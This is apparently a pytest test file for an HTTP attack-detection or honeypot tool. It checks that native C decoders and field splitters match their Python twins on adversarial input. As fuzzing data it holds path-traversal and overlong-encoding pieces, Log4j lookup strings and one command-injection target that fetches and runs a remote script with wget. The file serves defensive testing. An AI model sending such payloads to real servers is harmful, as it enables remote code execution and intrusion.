"""The C decoders and field helpers (_decoders.c, _hsnative.split_head) give exactly what their
Python twins give, on random and adversarial bytes, never crash, and are built in CI; a whole
HTTP subject built with them is the subject built by the Python alone."""

from __future__ import annotations

import os
from collections.abc import Iterator
from contextlib import contextmanager

import msgspec
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from honeyguard.detect import (
    fields,
    hsnative,
    httpfields,
    httpsplit,
    httpsubject,
    nativesplit,
    normalize,
    raw_http_subject,
)
from honeyguard.detect.fields import event_subject
from honeyguard.detect.httpsubject import HttpSubject
from honeyguard.detect.subject import FIELD_LIMITS
from honeyguard.model import HttpRequest
from tests.detect._support import byte_pieces, http_event, swap_all

NATIVE = normalize.NATIVE_DECODERS

#: the shapes decoders trip on: escapes cut short, at the end, nested, overlong forms, lookups,
#: line ends, NULs and bytes that are not UTF-8
_PIECES = (
    b"%", b"%2", b"%25", b"%2525", b"%2e", b"%2E", b"%2f", b"%5c", b"%41", b"%u", b"%u00", b"%u002e", b"%U20ac",
    b"%uD800", b"%c0%ae", b"\xc0", b"\xc0\xae", b"\xc1\xbf", b"\xe0", b"\xe0\x80\xae", b"\xe0\x81", b"+", b"\\",
    b"\\u", b"\\u00", b"\\u003e", b"\\u20ac", b"\\uD83D", b'\\"', b"\\/", b"\\\\", b"&", b"#", b"&#", b"&#x",
    b"&#x3c;", b"&#60", b"&#1114111;", b"&#1114112;", b"&#x110000", b"&#99999999", b"&#x1F600;", b";", b"$",
    b"{", b"}", b"${", b"%24%7b", b"\\u0024{", b"&#36;{", b"/", b"//", b".", b"..", b"/..", b"..;", b"?", b"=",
    b"http://", b"HTTPS://", b"a", b"F", b"0", b"9", b"x", b"\x00", b"\xff", b"\r", b"\n", b"\r\n", b"\r\n\r\n",
    b"\n\n", b"\n ", b"\t", b":",
)  # fmt: skip
ODD = st.one_of(byte_pieces(*_PIECES, max_size=24), st.binary(max_size=64))


def test_the_decoders_are_built_in_ci() -> None:
    assert NATIVE is not None or os.environ.get("CI") != "true"
    assert hsnative.split_head is not None or os.environ.get("CI") != "true"


def test_the_native_decoders_are_in_use_where_built() -> None:
    if NATIVE is None:
        assert normalize.decode_repeated is normalize.python_decode_repeated
        return
    assert normalize.decode_repeated is NATIVE.decode_repeated
    assert normalize.unescape_json is NATIVE.unescape_json
    assert normalize.decode_numeric_entities is NATIVE.decode_numeric_entities
    assert httpfields.view_marks is NATIVE.view_marks
    assert httpfields.head_bounds is NATIVE.head_bounds
    assert httpfields.head_folded is NATIVE.head_folded


@settings(max_examples=1500, deadline=None)
@given(ODD, st.booleans())
def test_native_decoders_are_the_python_ones(data: bytes, plus_is_space: bool) -> None:
    if NATIVE is None:
        assert os.environ.get("CI") != "true"
        return
    assert NATIVE.decode_repeated(data, plus_is_space=plus_is_space) == normalize.python_decode_repeated(
        data, plus_is_space=plus_is_space
    )
    assert NATIVE.unescape_json(data) == normalize.python_unescape_json(data)
    assert NATIVE.decode_numeric_entities(data) == normalize.python_decode_numeric_entities(data)
    assert NATIVE.view_marks(data) == httpfields.python_view_marks(data)
    assert NATIVE.head_bounds(data) == httpfields.python_head_bounds(data)
    assert NATIVE.head_folded(data) == httpfields.python_head_folded(data)


def _raw_plus_decoded_reference(data: bytes) -> bytes:
    text = normalize.resolve_log4j_lookups(normalize.python_decode_repeated(data, plus_is_space=True))
    decoded = normalize.python_decode_numeric_entities(normalize.python_unescape_json(text))
    return data if decoded == data else data + b"\n" + decoded


@settings(max_examples=1500, deadline=None)
@given(ODD)
def test_native_body_decoding_is_the_python_one_or_leaves_lookups_to_it(data: bytes) -> None:
    if NATIVE is None:
        assert os.environ.get("CI") != "true"
        return
    expected = _raw_plus_decoded_reference(data)
    found = NATIVE.raw_plus_decoded(data)
    if found is None:  # only for a lookup decoding leaves, which the Python resolves
        assert normalize.python_decode_repeated(data, plus_is_space=True).find(b"${") >= 0
    else:
        assert found == expected
    assert normalize.raw_plus_decoded(data) == expected


@settings(max_examples=1500, deadline=None)
@given(ODD)
def test_native_target_fields_are_the_python_ones(target: bytes) -> None:
    expected = httpfields.python_target_fields(target)
    assert httpfields.target_fields(target) == expected
    if NATIVE is None:
        return
    found = NATIVE.target_fields(target)
    assert found is None or found == expected
    if found is None:  # only for a Log4j lookup, left to the Python: a '$', as sent or encoded
        assert target.find(b"$") >= 0 or target.find(b"%") >= 0 or normalize.has_overlong_lead(target)


@settings(max_examples=600, deadline=None)
@given(ODD)
@example(b"GET /\r\r\n\r\n HTTP/1.1\r\n\r\n")  # a head of one line ending in '\r': raw's first line is not
def test_native_head_split_is_httpsplits(data: bytes) -> None:
    for raw in (data, b"GET /a?b HTTP/1.1\r\n" + data, b"POST / HTTP/1.0\nHost: x\n" + data):
        line = httpsplit.split_request_line(raw)
        assert nativesplit.split_http(raw) == httpsplit.split_http(raw)
        assert nativesplit.split_http(raw, line) == httpsplit.split_http(raw, line)


def test_native_helpers_take_empty_huge_and_odd_inputs() -> None:
    if NATIVE is None:
        assert os.environ.get("CI") != "true"
        return
    huge = [
        b"%25" * 400_000 + b"%",  # a long chain of rounds, a '%' at the very end
        b"\xe0\x80\xae" * 300_000,
        b"\\u0041" * 200_000 + b"\\u00",
        b"&#x10FFFF;" * 100_000 + b"&#",
        b"/" + b"a/../" * 100_000 + b"%2e%2e/" * 10_000 + b"?" + b"%41+" * 50_000,
        b"\x00" * 1_000_000,
        bytes(range(256)) * 4000,
    ]
    for data in [b"", b"%", b"\\", b"&#", b"${", *huge]:
        assert NATIVE.decode_repeated(data) == normalize.python_decode_repeated(data)
        assert NATIVE.unescape_json(data) == normalize.python_unescape_json(data)
        assert NATIVE.decode_numeric_entities(data) == normalize.python_decode_numeric_entities(data)
        assert httpfields.target_fields(data) == httpfields.python_target_fields(data)
        assert normalize.raw_plus_decoded(data) == _raw_plus_decoded_reference(data)
    for call in (NATIVE.decode_repeated, NATIVE.unescape_json, NATIVE.decode_numeric_entities, NATIVE.target_fields):
        with pytest.raises(TypeError):
            call("text")
        with pytest.raises(TypeError):
            call(bytearray(b"%41"))
    with pytest.raises(TypeError):
        NATIVE.decode_repeated(b"a", True)  # plus_is_space is keyword-only
    with pytest.raises(TypeError):
        NATIVE.decode_repeated(b"a", plus=True)
    assert NATIVE.decode_repeated(b"a+%2B", plus_is_space=True) == b"a +"
    split_head = hsnative.split_head
    if split_head is not None:  # the request is made as the given tuple subclass, or refused
        line = (b"GET", b"/", b"HTTP/1.1")
        found = split_head(b"GET / HTTP/1.1\r\nA: b\r\n\r\nbody", 200, line, httpsplit.SplitRequest)
        assert found == httpsplit.SplitRequest(*line, [(b"A", b"b")], b"body")
        assert type(found) is httpsplit.SplitRequest
        for bad in ((b"GET / HTTP/1.1", 200, line, dict), (b"GET /", 200, line[:2], tuple), ("GET /", 2, line, tuple)):
            with pytest.raises(TypeError):
                split_head(*bad)


@contextmanager
def _python_only() -> Iterator[None]:
    """Every native helper the HTTP subject uses swapped for its Python twin."""
    with pytest.MonkeyPatch.context() as patch:
        swap_all(patch, [(m, name, twin) for m in _READERS for name, twin in _TWINS.items() if hasattr(m, name)])
        yield


#: the modules that bind a native helper (or the decoders' module) under its own name
_READERS = (normalize, httpfields, httpsubject, fields)
#: each such name's Python twin (None: no native decoders at all), swapped wherever it is bound
_TWINS = {
    "decode_repeated": normalize.python_decode_repeated,
    "unescape_json": normalize.python_unescape_json,
    "decode_numeric_entities": normalize.python_decode_numeric_entities,
    "NATIVE_DECODERS": None,
    "native_target_fields": None,
    "head_bounds": httpfields.python_head_bounds,
    "head_folded": httpfields.python_head_folded,
    "view_marks": httpfields.python_view_marks,
    "split_request_line": httpsplit.split_request_line,
    "split_http": httpsplit.split_http,
    "native_recorded_raw": None,
    "unix_head": httpfields.python_unix_head,
    "native_recorded_fields": None,
}


def _everything(raw: bytes) -> tuple[object, ...]:
    subject = raw_http_subject(raw)
    assert isinstance(subject, HttpSubject)
    view = subject.prefilter_view(False)
    return (view, subject.prefilter_view(True), sorted(subject.fields.items()), subject.texts, subject.host,
            subject.header_values, subject.payload_parts(), subject.head_folded())  # fmt: skip


_REQUESTS = st.tuples(
    st.sampled_from([b"GET ", b"POST ", b"get  ", b"X ", b""]),
    ODD,
    st.sampled_from([b" HTTP/1.1\r\n", b"\n", b" HTTP/1.0\r\n", b""]),
    st.lists(st.tuples(st.sampled_from([b"Host", b"Cookie", b"X-A", b"", b" F"]), ODD), max_size=4),
    st.sampled_from([b"\r\n", b"\n", b""]),
    ODD,
).map(lambda p: p[0] + b"/" + p[1] + p[2] + b"".join(n + b": " + v + b"\r\n" for n, v in p[3]) + p[4] + p[5])


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_REQUESTS)
@example(b"GET /\r\r\n\r\n HTTP/1.1\r\n\r\n")
@example(b'GET /%24%7Blower:x%7D?a=%2524%257B HTTP/1.1\r\nCookie: ${env:X:-j}%41\r\n\r\n{"a":"\\u0041&#60;"}+%2B')
def test_a_subject_built_natively_is_the_python_subject(raw: bytes) -> None:
    native = _everything(raw)
    with _python_only():
        python = _everything(raw)
    assert native == python
    # and field by field, in the engine's order (lazily: the line fields first, then the rest)
    subject = raw_http_subject(raw)
    subject.prefilter_view(False)
    lazily = {name: subject.field(name) for name in ("path", "body", "request", "header.*", "query", "url")}
    fields = dict(native[2])  # type: ignore[call-overload]
    assert lazily == {name: fields.get(name, b"") for name in lazily}


#: strings as a sensor records them: latin-1 mostly, now and then a character that is not
_STRINGS = st.lists(
    st.sampled_from(["a", "Host", " ", ":", ": ", "\r", "\n", "\r\n", "%", "$", "é", "\xff", "€", "\udcff", "\x00"]),
    max_size=6,
).map("".join)
_HEADERS = st.lists(st.tuples(_STRINGS, _STRINGS), max_size=4)


@settings(max_examples=800, deadline=None)
@given(_STRINGS, _STRINGS, _STRINGS, _HEADERS, st.binary(max_size=12), st.integers(-1, 8))
def test_native_recorded_raw_and_unix_head_are_the_python_ones(
    method: str, target: str, version: str, headers: list[tuple[str, str]], body: bytes, line_ends: int
) -> None:
    native = httpfields.native_recorded_raw
    if native is None:
        assert os.environ.get("CI") != "true"
        return
    raw = native(method, target, version, headers, body)
    assert raw == httpfields.python_recorded_raw(method, target, version, headers, body)
    for head in ([raw] if raw is not None else []) + [(method + target).encode("utf-8", "surrogatepass")]:
        for wanted in (line_ends, head.count(b"\r\n")):
            assert httpfields.unix_head(head, wanted) == httpfields.python_unix_head(head, wanted)


def test_native_recorded_raw_leaves_what_it_cannot_read_to_the_python() -> None:
    native = httpfields.native_recorded_raw
    if native is None:
        assert os.environ.get("CI") != "true"
        return
    line = ("GET", "/", "HTTP/1.1")
    assert native(*line, [("A", "b")], b"x") == b"GET / HTTP/1.1\r\nA: b\r\n\r\nx"
    assert native(*line, [], b"") == b"GET / HTTP/1.1\r\n\r\n\r\n"
    odd: list[object] = [[["A", "b"]], [("A",)], [("A", "b", "c")], [("A", b"b")], [("A", 1)], (("A", "b"),)]
    for headers in odd:
        assert native(*line, headers, b"") is None, headers  # type: ignore[arg-type]
    assert native(*line, [], bytearray(b"x")) is None  # type: ignore[arg-type]
    assert native("GET", "/€", "HTTP/1.1", [], b"") is None
    assert native(b"GET", "/", "HTTP/1.1", [], b"") is None  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        native(*line, [])  # type: ignore[call-arg]
    with pytest.raises(TypeError):
        httpfields.unix_head("GET", 1)  # type: ignore[arg-type]
    huge = "a" * 1_000_000
    assert native(huge, huge, huge, [(huge, huge)] * 3, b"b" * 1_000_000) == httpfields.python_recorded_raw(
        huge, huge, huge, [(huge, huge)] * 3, b"b" * 1_000_000
    )


def _recorded_everything(request: HttpRequest) -> tuple[object, ...]:
    subject = event_subject(http_event(request))
    assert isinstance(subject, HttpSubject)
    view = subject.prefilter_view(False)
    request_first = subject.field("request")  # (before the parts: from the raw bytes when it can be)
    return (view, request_first, subject.texts, subject.first_host(), subject.payload_parts(),
            sorted(subject.fields.items()), subject.host, subject.header_values)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(_STRINGS, _HEADERS, st.binary(max_size=12))
def test_a_recorded_request_s_subject_built_natively_is_the_python_subject(
    target: str, headers: list[tuple[str, str]], body: bytes
) -> None:
    request = HttpRequest(method="GET", target="/" + target, version="HTTP/1.1", headers=headers, body=body)
    native = _recorded_everything(request)
    with _python_only():
        python = _recorded_everything(request)
    assert native == python


@settings(max_examples=300, deadline=None)
@given(_STRINGS, _HEADERS, st.binary(max_size=12), st.sampled_from(["target", "request", "query", "body", "raw"]))
def test_a_recorded_request_s_fields_asked_in_any_order_are_the_python_ones(
    target: str, headers: list[tuple[str, str]], body: bytes, first: str
) -> None:
    request = HttpRequest(method="GET", target="/" + target, version="HTTP/1.1", headers=headers, body=body)
    names = (first, "request", "method", "target", "path", "query", "url", "body")

    def asked() -> tuple[object, ...]:
        subject = event_subject(http_event(request))
        assert isinstance(subject, HttpSubject)
        return (*(subject.field(name) for name in names), subject.texts, subject.payload_parts())

    native = asked()
    with _python_only():
        assert native == asked()


_RECORDED_TARGETS = st.one_of(ODD, st.sampled_from([b"/shell?cd+/tmp;wget+http://a/b;sh", b"http://h", b"x?${a}"]))


def _recorded(
    method: bytes, target: bytes, version: bytes, headers: list[tuple[bytes, bytes]], body: bytes
) -> HttpRequest:
    strings = [(name.decode("latin-1"), value.decode("latin-1")) for name, value in headers]
    line = (method.decode("latin-1"), target.decode("latin-1"), version.decode("latin-1"))
    return HttpRequest(method=line[0], target=line[1], version=line[2], headers=strings, body=body)


@settings(max_examples=800, deadline=None)
@given(st.sampled_from([b"GET", b"", b"P" * 70]), _RECORDED_TARGETS, st.sampled_from([b"HTTP/1.1", b""]),
       st.lists(st.tuples(ODD, ODD), max_size=3), st.binary(max_size=8), st.integers(-2, 3))  # fmt: skip
def test_native_recorded_fields_are_the_python_ones(
    method: bytes, target: bytes, version: bytes, headers: list[tuple[bytes, bytes]], body: bytes, skew: int
) -> None:
    native = httpfields.native_recorded_fields
    if native is None:
        assert os.environ.get("CI") != "true"
        return
    lines = b"\r\n".join(name + b": " + value for name, value in headers)
    raw = b"%s %s %s\r\n%s\r\n\r\n%s" % (method, target, version, lines, body)
    request = _recorded(method, target, version, headers, body)
    python = httpfields.python_recorded_fields(raw, request)
    found = native(raw, request)
    if found is None:  # only a Log4j lookup in a target field is left to the Python
        assert any(b"${" in field for field in python[3:6])
    else:
        assert found == python
    # a request whose lengths are not raw's: the same answer or None, never a crash
    other = _recorded(method * max(skew, 0), target[: len(target) + skew], version, headers[skew:], body[skew:])
    found = native(raw, other)
    if found is not None:
        assert found == httpfields.python_recorded_fields(raw, other)


def test_native_recorded_fields_refuse_what_they_cannot_read() -> None:
    native = httpfields.native_recorded_fields
    if native is None:
        assert os.environ.get("CI") != "true"
        return
    raw = b"GET /a?b+c HTTP/1.1\r\nHost: h\r\n\r\n"
    request = _recorded(b"GET", b"/a?b+c", b"HTTP/1.1", [(b"Host", b"h")], b"")
    assert native(raw, request) == (
        (b"GET", b"/a?b+c", b"HTTP/1.1"),
        b"GET",
        b"/a?b+c",
        b"/a",
        b"b c",
        b"/a?b+c",
        b"GET /a?b+c HTTP/1.1\nHost: h\n\n",
    )
    found = native(raw, msgspec.structs.replace(request, body=b"x"))
    assert found is not None and found[-1] is None  # (a body: its field is the Python's)
    found = native(raw, msgspec.structs.replace(request, headers=[("Host", "h"), ("A", "b")]))
    assert found is not None and found[-1] is None  # (a line end count that is not raw's)
    for odd in ({"target": "/" * len(raw)}, {"body": raw + b"x"}, {"method": b"GET"}, {"headers": ()}):
        assert native(raw, msgspec.structs.replace(request, **odd)) is None, odd
    assert native(raw, object()) is None  # type: ignore[arg-type]
    lookup = b"GET /${a} HTTP/1.1\r\n\r\n\r\n"
    assert native(lookup, _recorded(b"GET", b"/${a}", b"HTTP/1.1", [], b"")) is None
    for bad in ((raw.decode(), request), (raw,), (raw, request, 1)):
        with pytest.raises(TypeError):
            native(*bad)
    huge = b"G" * 100 + b" /" + b"a" * 200_000 + b"%41 V\r\n\r\n\r\n"
    request = _recorded(b"G" * 100, b"/" + b"a" * 200_000 + b"%41", b"V", [], b"")
    assert native(huge, request) == httpfields.python_recorded_fields(huge, request)
    huge = b"M" * 200_000 + b" /\xc0\xae V\r\n\r\n\r\n"  # a 'request' field past its limit, cut
    request = _recorded(b"M" * 200_000, b"/\xc0\xae", b"V", [], b"")
    found = native(huge, request)
    assert found == httpfields.python_recorded_fields(huge, request)
    assert found is not None and found[-1] is not None and len(found[-1]) == FIELD_LIMITS["request"]
